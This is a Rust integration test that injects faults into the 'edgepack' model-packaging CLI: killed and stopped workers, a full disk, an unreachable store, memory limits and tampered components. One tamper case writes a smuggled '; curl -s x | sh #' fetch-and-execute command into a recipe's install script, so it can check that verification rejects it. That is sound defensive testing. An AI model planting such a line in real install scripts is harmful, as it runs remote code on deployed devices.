//! Issue 27's fault-injection suite, through the `edgepack` binary: the worker killed
//! (`kill -9`) and stopped past the heartbeat limit (`SIGSTOP`, its component version then
//! taken by another job, `SIGCONT`) at each phase of a job (fail points of the
//! `fault-injection` feature hold the worker there), both worker processes killed while
//! publishing, the disk filled while publishing (a small tmpfs home, where this machine lets
//! the test mount one), an object store that refuses connections, a memory limit, and
//! tampered components checked by `verify-component`. After each fault: the job must end (no
//! stuck job), every published component must belong to a SUCCEEDED job, and no staging or
//! temporary bytes may be left once the service opens again. The figures go to
//! `target/reports/faults.json` and stdout; every count that must be zero is asserted.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

/// The heartbeat limit in this suite (seconds), short so that stopped workers are noticed.
const HEARTBEAT_TIMEOUT: &str = "1.5";

/// What the suite counts.
#[derive(Default, Debug)]
struct Report {
    injected: usize,
    ended_correctly: usize,
    stuck: Vec<String>,
    published_without_success: Vec<String>,
    leaked_bytes: u64,
    leaks: Vec<String>,
    tampered_verified: Vec<String>,
    skipped: Vec<String>,
}

struct Service {
    home: PathBuf,
}

impl Service {
    fn command(&self, args: &[&str], env: &[(&str, &str)]) -> Output {
        let mut c = Command::new(env!("CARGO_BIN_EXE_edgepack"));
        c.args(args)
            .env("EDGEPACK_HOME", &self.home)
            .env("EDGEPACK_AGENT_DIR", common::agent_builds(&self.home))
            .env("EDGEPACK_HEARTBEAT_TIMEOUT", HEARTBEAT_TIMEOUT)
            .env_remove("FAILPOINTS");
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().expect("run edgepack")
    }

    fn ok(&self, args: &[&str]) -> String {
        let o = self.command(args, &[]);
        assert!(o.status.success(), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8(o.stdout).unwrap()
    }

    fn new(home: PathBuf) -> Service {
        std::fs::create_dir_all(home.parent().unwrap()).unwrap();
        let s = Service { home };
        s.ok(&["create-project", "--project-name", "p"]);
        let model = s.home.join("..").join("sample.onnx");
        let model = model.to_str().unwrap();
        s.ok(&["sample-model", "--kind", "classification", "--size", "32x32", "--out", model]);
        let contract = format!("file://{}", s.home.join("..").join("sample.contract.json").display());
        s.ok(&["import-model", "--project-name", "p", "--model", model, "--contract", &contract]);
        s
    }

    /// Starts a job for component `component` (version 1.0.0) without waiting.
    fn start(&self, job: &str, component: &str, env: &[(&str, &str)]) -> Output {
        let config = configuration(component);
        let args = ["start-model-packaging-job", "--project-name", "p", "--model-version", "1", "--job-name", job];
        self.command(&[&args[..], &["--configuration", &config]].concat(), env)
    }

    fn describe(&self, job: &str) -> (String, String) {
        let out = self.ok(&[
            "describe-model-packaging-job",
            "--project-name",
            "p",
            "--job-name",
            job,
            "--query",
            "ModelPackagingDescription.[Status,StatusMessage]",
            "--output",
            "json",
        ]);
        let v: Value = serde_json::from_str(&out).unwrap();
        (v[0].as_str().unwrap_or_default().to_owned(), v[1].as_str().unwrap_or_default().to_owned())
    }

    /// Polls until `pred` holds for the job's (status, message); `None` on timeout.
    fn until(&self, job: &str, timeout: Duration, pred: impl Fn(&str, &str) -> bool) -> Option<(String, String)> {
        let t0 = Instant::now();
        while t0.elapsed() < timeout {
            let (s, m) = self.describe(job);
            if pred(&s, &m) {
                return Some((s, m));
            }
            std::thread::sleep(Duration::from_millis(40));
        }
        None
    }

    /// The worker child running a job of this home, if one is alive.
    fn worker_child(&self) -> Option<u32> {
        let home = format!("EDGEPACK_HOME={}", self.home.display());
        std::fs::read_dir("/proc").ok()?.flatten().find_map(|e| {
            let pid: u32 = e.file_name().to_str()?.parse().ok()?;
            let env = std::fs::read(e.path().join("environ")).ok()?;
            let vars: Vec<&[u8]> = env.split(|&b| b == 0).collect();
            let has = |v: &str| vars.contains(&v.as_bytes());
            (has("EDGEPACK_WORKER_CHILD=1") && has(&home)).then_some(pid)
        })
    }

    /// The supervisor of the worker child `pid`.
    fn parent(pid: u32) -> Option<u32> {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse().ok()
    }

    fn wait_gone(pid: u32) {
        let t0 = Instant::now();
        while Path::new(&format!("/proc/{pid}")).exists() && t0.elapsed() < Duration::from_secs(60) {
            // A zombie counts as gone.
            let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            if state.rsplit_once(')').is_some_and(|(_, r)| r.trim_start().starts_with('Z')) {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Components published (folders holding their last file) under the home's buckets.
    fn published(&self) -> Vec<String> {
        fn walk(dir: &Path, root: &Path, out: &mut Vec<String>) {
            for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
                let p = e.path();
                if p.is_dir() && !e.file_name().to_string_lossy().starts_with('.') {
                    if p.join("create-component-version.json").exists() {
                        out.push(p.strip_prefix(root).unwrap().display().to_string());
                    }
                    walk(&p, root, out);
                }
            }
        }
        let root = self.home.join("buckets");
        let mut out = Vec::new();
        walk(&root, &root, &mut out);
        out
    }

    /// Components of SUCCEEDED jobs, as `parts/<name>/<version>`.
    fn succeeded(&self) -> Vec<String> {
        let out = self.ok(&["list-model-packaging-jobs", "--project-name", "p", "--output", "json"]);
        let v: Value = serde_json::from_str(&out).unwrap();
        let mut names = Vec::new();
        for j in v["ModelPackagingJobs"].as_array().into_iter().flatten() {
            let name = j["JobName"].as_str().unwrap();
            let d = self.ok(&[
                "describe-model-packaging-job",
                "--project-name",
                "p",
                "--job-name",
                name,
                "--output",
                "json",
            ]);
            let d: Value = serde_json::from_str(&d).unwrap();
            let d = &d["ModelPackagingDescription"];
            if d["Status"] == "SUCCEEDED" {
                let g = &d["ModelPackagingOutputDetails"]["Greengrass"];
                names.push(format!(
                    "parts/{}/{}",
                    g["ComponentName"].as_str().unwrap(),
                    g["ComponentVersion"].as_str().unwrap()
                ));
            }
        }
        names
    }

    /// Bytes of staging folders and temporary model files left, after a command opened the
    /// service (which sweeps what dead processes left).
    fn leftover_bytes(&self) -> u64 {
        self.ok(&["list-projects"]);
        fn walk(dir: &Path) -> u64 {
            let mut n = 0;
            for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
                let name = e.file_name().to_string_lossy().into_owned();
                let p = e.path();
                // Staging folders of publishes, temporary model files: dot names.
                if name.starts_with('.') {
                    n += du(&p);
                } else if p.is_dir() {
                    n += walk(&p);
                }
            }
            n
        }
        fn du(p: &Path) -> u64 {
            if p.is_dir() {
                std::fs::read_dir(p).into_iter().flatten().flatten().map(|e| du(&e.path())).sum()
            } else {
                p.metadata().map(|m| m.len()).unwrap_or(0).max(1)
            }
        }
        walk(&self.home.join("buckets")) + walk(&self.home.join("blobs"))
    }

    /// The checks after a fault: the job ended, published components belong to SUCCEEDED
    /// jobs, nothing left over.
    fn audit(&self, what: &str, jobs: &[&str], r: &mut Report) {
        for job in jobs {
            let ended = self.until(job, Duration::from_secs(20), |s, _| s != "RUNNING" && s != "CREATED");
            if ended.is_none() {
                r.stuck.push(format!("{what}: {job}"));
            }
        }
        let ok = self.succeeded();
        for c in self.published() {
            if !ok.contains(&c) {
                r.published_without_success.push(format!("{what}: {c}"));
            }
        }
        let left = self.leftover_bytes();
        if left > 0 {
            r.leaks.push(format!("{what}: {left} bytes"));
        }
        r.leaked_bytes += left;
    }
}

/// The packaging configuration of component `component` 1.0.0 for AVX2 in bucket `parts`.
fn configuration(component: &str) -> String {
    format!(
        r#"{{"Greengrass":{{"TargetPlatform":{{"Os":"LINUX","Arch":"X86_64"}},"CompilerOptions":"{{'mcpu':'core-avx2'}}","S3OutputLocation":{{"Bucket":"parts"}},"ComponentName":"{component}","ComponentVersion":"1.0.0"}}}}"#
    )
}

const PHASES: [(&str, &str); 5] = [
    ("job-load", "loading model version"),
    ("job-plan", "planning for kernel set"),
    ("job-parity", "checking parity"),
    ("job-publish", "publishing to s3://parts"),
    ("publish-staged", "publishing to s3://parts"),
];

/// Holds the worker at `point` (3 s), waits until the job says it is there; the child's pid.
fn hold_at(svc: &Service, job: &str, component: &str, point: &str, says: &str) -> u32 {
    let fp = format!("{point}=sleep(3000)");
    let o = svc.start(job, component, &[("FAILPOINTS", &fp)]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    svc.until(job, Duration::from_secs(30), |s, m| s == "RUNNING" && m.starts_with(says))
        .unwrap_or_else(|| panic!("{job}: never reached {point}: {:?}", svc.describe(job)));
    if point == "publish-staged" {
        // Past the message, into the publish: the staging folder exists.
        std::thread::sleep(Duration::from_millis(600));
    }
    svc.worker_child().unwrap_or_else(|| panic!("{job}: no worker child"))
}

fn kill(pid: u32, sig: &str) {
    let s = Command::new("kill").args([&format!("-{sig}"), &pid.to_string()]).status().unwrap();
    assert!(s.success(), "kill -{sig} {pid}");
}

fn case(r: &mut Report, what: &str, correct: bool, detail: &str) {
    r.injected += 1;
    if correct {
        r.ended_correctly += 1;
    }
    println!("{} {what}: {detail}", if correct { "ok  " } else { "FAIL" });
}

fn killed_at_each_phase(r: &mut Report, dir: &Path) {
    for (n, (point, says)) in PHASES.iter().enumerate() {
        let svc = Service::new(dir.join(format!("kill-{n}/home")));
        let job = "j";
        let child = hold_at(&svc, job, "c", point, says);
        kill(child, "KILL");
        let end = svc.until(job, Duration::from_secs(20), |s, _| s == "FAILED");
        let m = end.clone().map(|e| e.1).unwrap_or_default();
        case(r, &format!("kill -9 at {point}"), m.contains("killed by signal 9"), &m);
        svc.audit(&format!("kill -9 at {point}"), &[job], r);
    }
    // Both processes killed while publishing: the heartbeat rule ends the job.
    let svc = Service::new(dir.join("kill-both/home"));
    let child = hold_at(&svc, "j", "c", "publish-staged", "publishing to s3://parts");
    let supervisor = Service::parent(child).expect("the supervisor");
    kill(supervisor, "KILL");
    kill(child, "KILL");
    let end = svc.until("j", Duration::from_secs(20), |s, _| s == "FAILED");
    let m = end.map(|e| e.1).unwrap_or_default();
    case(r, "kill -9 of worker and supervisor while publishing", m.starts_with("interrupted"), &m);
    svc.audit("kill -9 of both", &["j"], r);
}

fn stopped_at_each_phase(r: &mut Report, dir: &Path) {
    for (n, (point, says)) in PHASES.iter().enumerate() {
        let svc = Service::new(dir.join(format!("stop-{n}/home")));
        let child = hold_at(&svc, "old", "c", point, says);
        kill(child, "STOP");
        let failed = svc.until("old", Duration::from_secs(20), |s, _| s == "FAILED");
        // The component version is free again: another job packages it.
        let o = svc.start("new", "c", &[]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let new = svc.until("new", Duration::from_secs(60), |s, _| s == "SUCCEEDED" || s == "FAILED");
        kill(child, "CONT");
        Service::wait_gone(child);
        let old = svc.describe("old");
        let correct = failed.is_some_and(|f| f.1.starts_with("interrupted"))
            && new.as_ref().is_some_and(|n| n.0 == "SUCCEEDED")
            && old.0 == "FAILED";
        case(
            r,
            &format!("SIGSTOP at {point}, version retaken, SIGCONT"),
            correct,
            &format!("old {old:?}, new {new:?}"),
        );
        svc.audit(&format!("SIGSTOP at {point}"), &["old", "new"], r);
        // The published component is the new job's, whole.
        let v = svc.command(&["verify-component", "--bucket", "parts", "--prefix", "c/1.0.0"], &[]);
        assert!(v.status.success(), "{point}: {}", String::from_utf8_lossy(&v.stderr));
    }
}

fn disk_full(r: &mut Report, dir: &Path) {
    let mnt = dir.join("tmpfs");
    std::fs::create_dir_all(&mnt).unwrap();
    let m = Command::new("mount").args(["-t", "tmpfs", "-o", "size=48m", "tmpfs"]).arg(&mnt).output();
    match m {
        Ok(o) if o.status.success() => {}
        Ok(o) => {
            let why = format!("cannot mount a tmpfs here ({})", String::from_utf8_lossy(&o.stderr).trim());
            println!("skipped: disk-full case: {why}");
            r.skipped.push(format!("disk full: {why}"));
            return;
        }
        Err(e) => {
            println!("skipped: disk-full case: no mount command ({e})");
            r.skipped.push(format!("disk full: no mount command ({e})"));
            return;
        }
    }
    /// Unmounts when the case ends, however it ends.
    struct Mounted(PathBuf);
    impl Drop for Mounted {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(&self.0).status();
        }
    }
    let _mounted = Mounted(mnt.clone());
    let svc = Service::new(mnt.join("home"));
    let child = hold_at(&svc, "j", "c", "job-publish", "publishing to s3://parts");
    // Fill the disk while the worker is about to write its staging folder.
    let filler = mnt.join("filler");
    fill(&filler);
    // Read-only commands work on a full disk.
    let list = svc.command(&["list-projects"], &[]);
    let describe = svc.command(&["describe-model-packaging-job", "--project-name", "p", "--job-name", "j"], &[]);
    Service::wait_gone(child);
    std::fs::remove_file(&filler).unwrap();
    let end = svc.until("j", Duration::from_secs(20), |s, _| s == "FAILED");
    let m = end.map(|e| e.1).unwrap_or_default();
    let reads = list.status.success() && describe.status.success();
    case(r, "disk filled while publishing", reads && !m.is_empty(), &format!("read-only commands ok: {reads}; {m}"));
    svc.audit("disk full", &["j"], r);
    // An import on the full disk: refused with the reason, read-only commands still work, and
    // nothing of it is left once the disk has room again.
    fill(&filler);
    let model = svc.home.join("..").join("sample.onnx");
    let contract = format!("file://{}", svc.home.join("..").join("sample.contract.json").display());
    let import = svc.command(
        &["import-model", "--project-name", "p", "--model", model.to_str().unwrap(), "--contract", &contract],
        &[],
    );
    let list = svc.command(&["list-models", "--project-name", "p"], &[]);
    std::fs::remove_file(&filler).unwrap();
    let said = String::from_utf8_lossy(&import.stderr).trim().to_owned();
    let correct = !import.status.success() && !said.is_empty() && list.status.success();
    case(r, "import on a full disk", correct, &format!("list-models ok: {}; {said}", list.status.success()));
    svc.audit("import on a full disk", &[], r);
}

/// Writes `path` until the disk it is on is full.
fn fill(path: &Path) {
    let mut f = std::fs::File::create(path).unwrap();
    let block = vec![0u8; 1 << 16];
    while std::io::Write::write_all(&mut f, &block).is_ok() {}
}

fn unreachable_store(r: &mut Report, dir: &Path) {
    let svc = Service::new(dir.join("s3-down/home"));
    // A port nobody listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    svc.ok(&["configure-storage", "--s3", "--endpoint-url", &format!("http://127.0.0.1:{port}")]);
    let o = svc.start("j", "c", &[("AWS_ACCESS_KEY_ID", "k"), ("AWS_SECRET_ACCESS_KEY", "s")]);
    let started = o.status.success();
    let end = if started { svc.until("j", Duration::from_secs(60), |s, _| s == "FAILED") } else { None };
    let detail = end.clone().map(|e| e.1).unwrap_or_else(|| String::from_utf8_lossy(&o.stderr).into_owned());
    case(r, "object store refusing connections", !started || end.is_some(), &detail);
    if started {
        svc.audit("object store down", &["j"], r);
    }
}

fn memory_limit(r: &mut Report, dir: &Path) {
    let svc = Service::new(dir.join("memory/home"));
    let model = dir.join("memory/expand.onnx");
    std::fs::write(&model, onnx::build::expand_chain(8, &[8, 3, 1024, 1024])).unwrap();
    let import = ["import-model", "--project-name", "p", "--model", model.to_str().unwrap()];
    let contract = ["--input-shape", "1x3x1x1", "--anomaly-output", "y", "--score-index", "0"];
    // Imported with the budget out of the way (its estimate is 6 GiB; machines differ).
    let o = svc.command(&[&import[..], &contract[..]].concat(), &[("EDGEPACK_MEMORY_BUDGET", "1T")]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    for (job, budget) in [("aborted", "1T"), ("refused", "1G")] {
        let config = configuration(job);
        // The limit applies to the command and the worker it launches.
        let o = Command::new("bash")
            .args(["-c", "ulimit -v 1500000; exec \"$0\" \"$@\"", env!("CARGO_BIN_EXE_edgepack")])
            .args(["start-model-packaging-job", "--project-name", "p", "--model-version", "2", "--job-name", job])
            .args(["--configuration", &config, "--wait", "--query", "ModelPackagingDescription.StatusMessage"])
            .env("EDGEPACK_HOME", &svc.home)
            .env("EDGEPACK_AGENT_DIR", common::agent_builds(&svc.home))
            .env("EDGEPACK_MEMORY_BUDGET", budget)
            .output()
            .unwrap();
        let m = String::from_utf8_lossy(&o.stdout).into_owned();
        let correct = match job {
            "aborted" => m.contains("the worker process died") && m.contains("memory allocation of"),
            _ => m.contains("over the memory budget of 1.0 GiB (EDGEPACK_MEMORY_BUDGET=1G)"),
        };
        case(r, &format!("memory limit 1.4 GiB, budget {budget}"), correct, m.trim());
        svc.audit(&format!("memory {job}"), &[job], r);
    }
}

/// A tampering: what it is, and what it does to the component's folder.
type Tampering = (&'static str, fn(&Path));

fn tampered(r: &mut Report, dir: &Path) {
    let svc = Service::new(dir.join("tamper/home"));
    let o = svc.start("j", "c", &[]);
    assert!(o.status.success());
    svc.until("j", Duration::from_secs(60), |s, _| s == "SUCCEEDED").expect("packaged");
    let folder = svc.home.join("buckets/parts/c/1.0.0");
    let edits: [Tampering; 4] = [
        ("Install script replaced", |f| {
            let p = f.join("recipe.json");
            let s = std::fs::read_to_string(&p).unwrap().replace("parity --component", "; curl -s x | sh #");
            std::fs::write(p, s).unwrap();
        }),
        ("create-component-version.json deleted", |f| {
            std::fs::remove_file(f.join("create-component-version.json")).unwrap()
        }),
        ("model.onnx swapped", |f| std::fs::write(f.join("model.onnx"), b"not the model").unwrap()),
        ("signature removed", |f| std::fs::remove_file(f.join("signature.json")).unwrap()),
    ];
    let pristine: Vec<(PathBuf, Vec<u8>)> =
        std::fs::read_dir(&folder).unwrap().flatten().map(|e| (e.path(), std::fs::read(e.path()).unwrap())).collect();
    for (what, edit) in edits {
        for (p, b) in &pristine {
            std::fs::write(p, b).unwrap();
        }
        edit(&folder);
        let v = svc.command(&["verify-component", "--bucket", "parts", "--prefix", "c/1.0.0"], &[]);
        let refused = !v.status.success() && String::from_utf8_lossy(&v.stderr).contains("does not verify");
        if !refused {
            r.tampered_verified.push(what.into());
        }
        case(r, &format!("tampered: {what}"), refused, String::from_utf8_lossy(&v.stderr).trim());
    }
}

#[test]
#[cfg_attr(
    not(feature = "fault-injection"),
    ignore = "skipped: built without the fault-injection feature (ci/test.sh builds the CLI with it)"
)]
fn faults_leave_no_stuck_job_no_orphan_component_and_no_leftovers() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = Report::default();
    let t0 = Instant::now();
    killed_at_each_phase(&mut r, dir.path());
    stopped_at_each_phase(&mut r, dir.path());
    disk_full(&mut r, dir.path());
    unreachable_store(&mut r, dir.path());
    memory_limit(&mut r, dir.path());
    tampered(&mut r, dir.path());
    let report = json!({
        "FaultsInjected": r.injected,
        "EndedCorrectly": r.ended_correctly,
        "StuckJobs": r.stuck,
        "ComponentsPublishedByJobsNotSucceeded": r.published_without_success,
        "LeakedBytes": r.leaked_bytes,
        "Leaks": r.leaks,
        "TamperedComponentsVerified": r.tampered_verified,
        "Skipped": r.skipped,
        "Seconds": t0.elapsed().as_secs_f64().round(),
    });
    let reports = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/reports");
    std::fs::create_dir_all(&reports).unwrap();
    std::fs::write(reports.join("faults.json"), serde_json::to_string_pretty(&report).unwrap()).unwrap();
    println!("fault-injection report: {report}");
    assert_eq!(r.ended_correctly, r.injected, "{report}");
    assert!(r.stuck.is_empty() && r.published_without_success.is_empty() && r.tampered_verified.is_empty(), "{report}");
    assert_eq!(r.leaked_bytes, 0, "{report}");
}
